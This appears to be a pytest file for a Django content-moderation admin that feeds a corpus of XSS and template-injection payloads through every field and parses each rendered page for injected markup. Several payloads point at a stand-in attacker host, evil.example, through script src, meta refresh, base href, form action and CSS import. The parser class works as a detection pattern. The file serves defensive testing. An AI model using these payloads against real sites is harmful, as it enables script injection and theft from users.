"""What people type is shown as text: a corpus through every field that reaches the console, every screen parsed."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from moderation import actions
from moderation.tests.factories import PersonFactory
from moderation.tests.pamphlets import write_pamphlet

pytestmark = pytest.mark.django_db

CORPUS = [
    "<script>alert(1337)</script>",
    "\"><script src=//evil.example/x.js></script>",
    "'><img src=x onerror=alert(1337)>",
    "<svg/onload=alert(1337)>",
    "<svg><animate onbegin=alert(1337) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1337)</script>'></iframe>",
    "<a href=javascript:alert(1337)>free phone</a>",
    "<a href='&#x6a;avascript:alert(1337)'>free</a>",
    "javascript:alert(1337)//",
    "\" autofocus onfocus=alert(1337) x=\"",
    "' onmouseover='alert(1337)",
    "</textarea><script>alert(1337)</script>",
    "</title><script>alert(1337)</script>",
    "</script><script>alert(1337)</script>",
    "<!--<img src=--><img src=x onerror=alert(1337)//>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1337)>",
    "{{ 7|add:7 }}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<details open ontoggle=alert(1337)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<form action=//evil.example><button>ok</button></form>",
    "<style>@import'//evil.example/x.css';</style>",
    "\u202e<script>alert(1337)</script>\u202c",
    "\u200b<scr\u200bipt>alert(1337)</scr\u200bipt>",
    "<scr\x00ipt>alert(1337)</scr\x00ipt>".replace("\x00", ""),
    "%3Cscript%3Ealert(1337)%3C/script%3E",
    "&lt;script&gt;alert(1337)&lt;/script&gt;",
    "مرحبا <b onclick=alert(1337)>سوق</b>",
]  # fmt: skip


class Found(HTMLParser):
    """Collects whatever a page of ours never has."""

    FORBIDDEN = frozenset({"iframe", "object", "embed", "base", "style", "math", "animate", "b-onclick"})
    ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "srcdoc", "poster"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in self.FORBIDDEN or "http-equiv" in given or "style" in given:
            self.bad.append(f"<{tag} {given}>")
        if (
            tag == "script"
            and given.get("type") != "application/json"
            and not given.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
        ):
            self.bad.append(f"<script {given}>")
        for name, value in given.items():
            if name.startswith("on"):
                self.bad.append(f"<{tag} {name}={value}>")
            address = "".join(value.split()).lower()
            if name in self.ADDRESSES and (address.startswith(("javascript:", "data:text", "//")) or "evil" in address):
                self.bad.append(f"<{tag} {name}={value}>")

    handle_startendtag = handle_starttag


def test_the_parser_would_notice():
    parser = Found()
    parser.feed(" ".join(CORPUS[:10]))
    assert len(parser.bad) >= 8


def test_nothing_that_people_type_becomes_markup(desk, moderator, policy):
    everything = "\n".join(CORPUS)
    author = PersonFactory(full_name=CORPUS[2], bio=CORPUS[3])
    reporter = PersonFactory(full_name=CORPUS[1])
    pages = {
        "/admin/", "/admin/moderation/case/", "/admin/moderation/case/?view=closed", "/admin/moderation/report/",
        "/admin/moderation/decision/", "/admin/moderation/policy/", "/admin/moderation/case/?q=%22%3E%3Cscript%3Ealert(1)",
        "/admin/moderation/case/?view=%22%3E%3Cscript%3E",
    }  # fmt: skip
    for number, payload in enumerate(CORPUS):
        pamphlet = write_pamphlet(author, title=payload[:100], body=everything)
        report = actions.report_target(
            reporter=reporter,
            target_kind="pamphlet",
            target_id=pamphlet.id,
            reason="scam",
            description=everything[:1000],
        )
        if number % 10 == 0:
            pamphlet.edit(everything[::-1])
            case = report.case
            actions.claim_case(case_id=case.pk, moderator=moderator)
            for name in ("change", "hand_over", "take_over", "escalate", "dismiss", "about_person", "history"):
                pages.add(reverse(f"admin:moderation_case_{name}", args=[case.pk]))
            pages |= {
                reverse("admin:moderation_report_change", args=[report.pk]),
                f"/admin/moderation/case/decide/?case={case.pk}",
            }
        if number == 5:
            decision = actions.decide_case(
                case_id=report.case_id, moderator=moderator, outcome="remove", policy=policy, revision=1,
                reason_en=everything[:2000], reason_ar=everything[:2000], private_note=everything,
            )  # fmt: skip
            pages |= {
                reverse("admin:moderation_case_change", args=[report.case_id]),
                reverse("admin:moderation_decision_change", args=[decision.pk]),
                reverse("admin:moderation_decision_undo", args=[decision.pk]),
            }
    account = actions.report_target(
        reporter=reporter, target_kind="account", target_id=author.pk, reason="fraud", description=everything[:1000]
    )
    pages.add(reverse("admin:moderation_case_change", args=[account.case_id]))

    for page in sorted(pages):
        answer = desk.get(page, follow=True)
        assert answer.status_code == 200, page
        parser = Found()
        parser.feed(answer.content.decode())
        assert parser.bad == [], page
        assert (
            "script-src 'self' 'nonce-" in answer.headers["Content-Security-Policy"]
            or "script-src 'self'" in answer.headers["Content-Security-Policy"]
        )
    assert "14{%" not in answer.content.decode()


def test_what_was_typed_into_a_refused_form_comes_back_as_text(desk, pamphlet):
    case = actions.report_target(
        reporter=PersonFactory(), target_kind="pamphlet", target_id=pamphlet.id, reason="scam"
    ).case
    everything = "\n".join(CORPUS)
    answer = desk.post(
        reverse("admin:moderation_case_change", args=[case.pk]),
        {"outcome": CORPUS[0], "revision": CORPUS[1], "reason_en": everything[:1900], "private_note": everything},
    )
    parser = Found()
    parser.feed(answer.content.decode())
    assert parser.bad == []
